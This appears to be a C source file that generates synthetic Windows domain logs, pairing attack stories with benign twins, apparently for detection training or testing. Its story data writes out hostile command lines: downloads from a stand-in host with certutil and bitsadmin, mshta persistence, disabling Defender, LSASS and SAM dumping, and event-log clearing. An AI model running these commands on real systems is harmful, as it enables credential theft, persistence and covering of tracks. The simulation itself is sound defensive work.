/* story_domain.c - stories of the Windows domain: rights, tickets, credentials, spread, staying. */
#include <stdio.h>
#include <string.h>

#include "story.h"

/* An administrator's account at night: an account is made, raised, used, deleted. */
static void
night_admin(struct company *co)
{
	struct mark *m = tale(co, "S07-admin-at-night",
		"An account is made at night, raised, used and deleted",
		"深夜の管理者による一時アカウント作成・悪用・削除");
	unsigned a = dice(co, 2);
	const char *by = people_admin(a),
		   *made = (const char *[]){"svc-tmp9", "backupsvc", "adm.x"}[dice(co, 3)];
	struct machine *dc = &co->servers[WIN_DC1 + dice(co, 2)], *to = &co->servers[WIN_HR1];
	int64_t at = plot_time(co, 0, 4);

	plot_names(m, &co->people[a]);
	truth_name(m, by);
	truth_name(m, made);
	plot_host(m, dc);
	plot_host(m, to);
	win_account_made(co, at, dc, by, made);
	at += rest(co, 20, 300);
	decide(co);
	win_group_joined(co, at, dc, by, made, "Domain Admins", "512");
	win_logon(co, at += rest(co, 60, 900), to, made, 10, co->people[a].pc.ip);
	win_event(co, at + rest(co, 600, 3000), KIND_AUTH, dc, 4726, "TargetUserName", made,
		"TargetDomainName", AD_SHORT, "TargetSid",
		"S-1-5-21-2871904415-1189402712-3350175001-4711", "SubjectUserSid",
		"S-1-5-21-2871904415-1189402712-3350175001-1120", "SubjectUserName", by,
		"SubjectDomainName", AD_SHORT, "SubjectLogonId", "0x5a31c7", "PrivilegeList", "-",
		(char *)NULL);
	m = twin(co, "T07-approved-admin", "S07-admin-at-night",
		"A new administrator's account at night, with an approved change",
		"承認済みの夜間の管理者追加");
	at = plot_time(co, 20, 22);
	truth_name(m, people_admin(3));
	lists_ticket(co, people_admin(3), "管理者アカウント追加", at - MS_HOUR, at + MS_HOUR);
	win_account_made(co, at, &co->servers[WIN_DC2], people_admin(3), "adm-infra5");
	win_group_joined(co, at + 60000, &co->servers[WIN_DC2], people_admin(3), "adm-infra5",
		"Domain Admins", "512");
}

static void
log_clearing(struct company *co)
{
	struct mark *m =
		tale(co, "S13-traces-removed", "Somebody logs on to a server and removes its logs",
			"サーバーへのログオンとログ消去");
	int64_t at = plot_time(co, 0, 23);
	struct person *p = actor(co, m, at);
	struct machine *to = &co->servers[(unsigned[]){WIN_MES1, WIN_SQL1, WIN_CAD1}[dice(co, 3)]];

	plot_host(m, to);
	win_logon(co, at, to, p->account, 10, p->pc.ip);
	at += rest(co, 120, 3000);
	decide(co);
	switch (dice(co, 3)) {
	case 0:
		run(co, at, to, p->account, WIN "wevtutil.exe", "wevtutil.exe cl Security",
			WIN "cmd.exe");
		win_log_cleared(co, at + 300, to, p->account);
		break;
	case 1:
		win_log_cleared(co, at, to, p->account);
		break;
	default:
		run(co, at, to, p->account, POWERSHELL,
			"powershell.exe Clear-EventLog -LogName System,Application", WIN "cmd.exe");
		break;
	}
	m = twin(co, "T13-logs-exported", "S13-traces-removed", "Logs are exported for the auditor",
		"監査のためのログ出力");
	at = plot_time(co, 9, 16);
	plot_host(m, &co->servers[WIN_SQL1]);
	win_logon(co, at, &co->servers[WIN_SQL1], people_admin(0), 10, IP_JUMP);
	run(co, at + 60000, &co->servers[WIN_SQL1], people_admin(0), WIN "wevtutil.exe",
		"wevtutil.exe epl Security C:\\\\audit\\\\sec.evtx", WIN "cmd.exe");
}

static void
kerberoast(struct company *co)
{
	struct mark *m = tale(co, "S14-kerberoast", "Tickets of many services with weak encryption",
		"Kerberoasting");
	int64_t at = plot_time(co, 8, 22);
	struct person *p = actor(co, m, at);
	struct machine *dc = &co->servers[WIN_DC1 + dice(co, 2)];
	unsigned n = 6 + dice(co, 14);

	at = look_around(co, at, &p->pc, p->account, 3 + dice(co, 3));
	for (unsigned i = 0; i < n; i++, at += 200 + dice(co, 9000)) {
		char service[24];

		snprintf(service, sizeof service, "svc-app%02u", i);
		if (i == 4)
			decide(co);
		win_ticket(co, at, dc, p->account, p->pc.ip, service, "0x17");
	}
	m = twin(co, "T14-many-tickets", "S14-kerberoast",
		"A portal opens twelve services with strong tickets, two with weak ones",
		"多数サービスの正規チケット要求");
	at = plot_time(co, 8, 16);
	p = actor(co, m, at);
	for (unsigned i = 0; i < 14; i++, at += 3000) {
		char service[24];

		snprintf(service, sizeof service, "svc-app%02u", i);
		win_ticket(co, at, dc, p->account, p->pc.ip, service, i < 12 ? "0x12" : "0x17");
	}
}

static void
dcsync(struct company *co)
{
	struct mark *m =
		tale(co, "S15-dcsync", "The directory is replicated by an account of a person",
			"DCSyncによる全パスワード取得");
	int64_t at = plot_time(co, 0, 23);
	struct person *p = actor(co, m, at);
	struct machine *dc = &co->servers[WIN_DC1 + dice(co, 2)];
	const char *by = dice(co, 2) ? p->account : people_admin(2);

	plot_host(m, dc);
	truth_name(m, by);
	plot_names(m, &co->people[2]);
	win_logon(co, at, dc, by, 3, p->pc.ip);
	for (unsigned i = 0; i < 3; i++, at += 400) {
		if (i == 0)
			decide(co);
		win_replicated(co, at + 900, dc, by);
	}
	m = twin(co, "T15-replication", "S15-dcsync",
		"Domain controllers and the cloud's connector replicate", "正規のディレクトリ複製");
	at = plot_time(co, 1, 22);
	plot_host(m, dc);
	for (unsigned i = 0; i < 6; i++, at += 600000)
		win_replicated(co, at, dc, (const char *[]){"AS-DC02$", "MSOL_3f9a01"}[i % 2]);
}

static void
persistence(struct company *co)
{
	struct mark *m =
		tale(co, "S16-task-that-stays", "A tool is fetched, a task or a key brings it back",
			"ツール取得とタスクによる永続化");
	int64_t at = plot_time(co, 8, 20);
	struct person *p = actor(co, m, at);
	uint32_t to = lair(co, m);
	unsigned way = dice(co, 3);

	if (dice(co, 2))
		run(co, at, &p->pc, p->account, WIN "certutil.exe",
			"certutil.exe -urlcache -split -f http://192.0.2.99/u.png " PUB "u.exe",
			WIN "cmd.exe");
	else
		run(co, at, &p->pc, p->account, WIN "bitsadmin.exe",
			"bitsadmin.exe /transfer j http://192.0.2.99/u.png " PUB "u.exe",
			WIN "cmd.exe");
	fetch(co, at + 500, p, to, "http://192.0.2.99/u.png", "image/png", 340000);
	at += rest(co, 20, 400);
	decide(co);
	if (way == 0)
		run(co, at, &p->pc, p->account, WIN "schtasks.exe",
			"schtasks.exe /create /sc minute /mo 30 /tn Updater /tr " PUB "u.exe",
			WIN "cmd.exe");
	else if (way == 1)
		win_task(co, at, &p->pc, p->account, "\\\\Updater", PUB "u.exe");
	else if (p->pc.agent == AGENT_NXLOG_AUDIT)
		win_task(co, at, &p->pc, p->account, "\\\\Updater",
			"mshta.exe http://192.0.2.99/a.hta");
	else
		win_run_key(co, at, &p->pc, p->account, WIN "reg.exe",
			"mshta.exe http://192.0.2.99/a.hta");
	for (unsigned i = 0; i < 6; i++)
		outward(co, at + (int64_t)(i + 1) * 30 * MS_MINUTE, p->pc.ip, to, 443, 1800);
	m = twin(co, "T16-installed-task", "S16-task-that-stays",
		"Software distribution makes a task of an updater", "正規ソフトの更新タスク");
	at = plot_time(co, 12, 13);
	p = actor(co, m, at);
	win_task(co, at, &p->pc, "svc-deploy", "\\\\ViewerUpdate",
		"C:\\\\Program Files\\\\Viewer\\\\update.exe");
	run(co, at + 60000, &p->pc, p->account, WIN "schtasks.exe",
		"schtasks.exe /query /tn ViewerUpdate", WIN "cmd.exe");
}

static void
domain_spray(struct company *co)
{
	struct mark *m = tale(co, "S18-password-spray",
		"Passwords tried for many accounts from a PC, one opens hosts",
		"社内PCからのパスワードスプレーと横展開");
	int64_t at = plot_time(co, 8, 21);
	struct person *p = actor(co, m, at), *victim = plot_person(co);
	struct machine *dc = &co->servers[WIN_DC1 + dice(co, 2)];
	unsigned n = 18 + dice(co, 20), first = 30 + dice(co, 300);

	plot_names(m, victim);
	for (unsigned i = 0; i < n; i++, at += 5000 + dice(co, 35000)) {
		if (i == 14)
			decide(co);
		win_logon_failed(co, at, dc, co->people[first + i].account, p->pc.ip);
	}
	for (unsigned i = 0; i < 3; i++)
		win_logon(co, at += rest(co, 20, 200), &co->servers[WIN_MES1 + i], victim->account,
			3, p->pc.ip);
	m = twin(co, "T18-terminal-monday", "S18-password-spray",
		"Eleven people mistype at the terminals after a change of passwords",
		"パスワード変更後の入力誤り");
	at = plot_time(co, 7, 9);
	plot_address(m, IP(10, 20, 40, 9));
	for (unsigned i = 0; i < 11; i++, at += 90000) {
		win_logon_failed(co, at, dc, co->people[100 + i].account, IP(10, 20, 40, 9));
		win_logon(co, at + 9000, &co->servers[WIN_MES1], co->people[100 + i].account, 3,
			IP(10, 20, 40, 9));
	}
}

static void
credentials(struct company *co)
{
	struct mark *m = tale(co, "S22-credentials-dumped",
		"Protection off, LSASS dumped, hosts reached", "保護停止・LSASSダンプ・横展開");
	int64_t at = plot_time(co, 8, 22);
	struct person *p = actor(co, m, at);
	static const char *const dumps[][2] = {
		{WIN "rundll32.exe",
			"rundll32.exe C:\\\\Windows\\\\System32\\\\comsvcs.dll, MiniDump 712 " PUB
			"l.dmp full"},
		{PUB "pd.exe", "procdump64.exe -accepteula -ma lsass.exe " PUB "l.dmp"},
		{WIN "reg.exe", "reg.exe save HKLM\\\\SAM " PUB "s.hiv"}};
	const struct person *stolen = plot_person(co);
	unsigned d = dice(co, 3);

	plot_names(m, stolen);
	if (dice(co, 2))
		run(co, at, &p->pc, p->account, POWERSHELL,
			"powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true",
			WIN "cmd.exe");
	at += rest(co, 30, 300);
	decide(co);
	run(co, at, &p->pc, p->account, dumps[d][0], dumps[d][1], WIN "cmd.exe");
	at += rest(co, 60, 1800);
	for (unsigned i = 0; i < 3 + dice(co, 3); i++) {
		struct machine *to = &plot_person(co)->pc;

		plot_host(m, to);
		win_logon(co, at += rest(co, 10, 100), to, stolen->account, 3, p->pc.ip);
		win_service(co, at + 900, to, "wupd", "%COMSPEC% /Q /c echo cd ^> C:\\\\o.txt");
	}
	m = twin(co, "T22-support-dump", "S22-credentials-dumped",
		"Support dumps a CAD program that hangs", "サポートによるCADのダンプ採取");
	at = plot_time(co, 9, 16);
	p = actor(co, m, at);
	run(co, at, &p->pc, p->account, "C:\\\\tool\\\\procdump.exe",
		"procdump.exe -ma jcad.exe C:\\\\tool\\\\j.dmp", WIN "cmd.exe");
	run(co, at + 60000, &p->pc, p->account, WIN "reg.exe",
		"reg.exe export HKCU\\\\Software\\\\Jcad C:\\\\tool\\\\j.reg", WIN "cmd.exe");
}

static void
sweep(struct company *co)
{
	struct mark *m = tale(co, "S23-sweep-and-spread",
		"A PC tries many hosts, then gets into some", "内部走査と横展開");
	int64_t at = plot_time(co, 8, 22);
	struct person *p = actor(co, m, at);
	unsigned n = 40 + dice(co, 60), port = (unsigned[]){445, 3389, 5985}[dice(co, 3)];
	bool wall = dice(co, 2) || p->pc.agent == AGENT_NXLOG_AUDIT;

	for (unsigned i = 0; i < n; i++, at += 500 + dice(co, 4000)) {
		uint32_t to = IP(10, 10, 2 + i / 200, 10 + i);
		struct flow f = {.p = {p->pc.ip, to, pool_port(&co->rng), port, false},
			.action = i % 4 ? "deny" : "accept",
			.policy = "clients-to-servers",
			.from = "internal1",
			.to = "dmz",
			.policyid = 21,
			.extra = ""};

		if (i == 29)
			decide(co);
		if (wall)
			forti_traffic(co, at, &f);
		else
			win_connected(co, at, &p->pc, p->account, PUB "n.exe", to, port);
	}
	for (unsigned i = 0; i < 4; i++) {
		plot_host(m, &co->servers[WIN_ERP1 + i]);
		win_logon(co, at += rest(co, 30, 300), &co->servers[WIN_ERP1 + i], p->account, 3,
			p->pc.ip);
	}
	m = twin(co, "T23-own-sweep", "S23-sweep-and-spread",
		"The company's scanner tries every server", "自社スキャナーによる全サーバー走査");
	at = plot_time(co, 19, 22);
	plot_address(m, IP_SCANNER);
	for (unsigned i = 0; i < 90; i++, at += 400) {
		struct flow f = {
			.p = {IP_SCANNER, IP(10, 10, 2, 10 + i), pool_port(&co->rng), 445, false},
			.action = "accept",
			.policy = "scanner",
			.from = "internal1",
			.to = "dmz",
			.policyid = 22,
			.extra = ""};

		forti_traffic(co, at, &f);
	}
}

static void
outbreak(struct company *co)
{
	struct mark *m = tale(
		co, "S24-outbreak", "The same malware on several hosts", "同一マルウェアの拡散");
	int64_t at = plot_time(co, 8, 20);
	const char *threat = (const char *[]){
		"Trojan:Win32/Qakbot.GZ", "Worm:Win32/Phorpiex", "Ransom:Win32/Ryuk"}[dice(co, 3)];

	for (unsigned i = 0; i < 4 + dice(co, 3); i++, at += rest(co, 60, 500)) {
		struct person *p = actor(co, m, at);

		if (i == 2)
			decide(co);
		win_malware(co, at, &p->pc, p->account, threat, "file:_" PUB "a.exe", "Quarantine");
	}
	m = twin(co, "T24-test-file", "S24-outbreak",
		"One PC finds one thing and removes it; another another", "単発の検知と駆除");
	at = plot_time(co, 9, 16);
	for (unsigned i = 0; i < 2; i++, at += MS_HOUR) {
		struct person *p = actor(co, m, at);

		win_malware(co, at, &p->pc, p->account,
			i ? "Virus:DOS/EICAR_Test_File" : "PUA:Win32/Bundler", "file:_" PUB "b.exe",
			"Quarantine");
	}
}

void
stories_domain(struct company *co)
{
	night_admin(co);
	log_clearing(co);
	kerberoast(co);
	dcsync(co);
	persistence(co);
	domain_spray(co);
	credentials(co);
	sweep(co);
	outbreak(co);
}
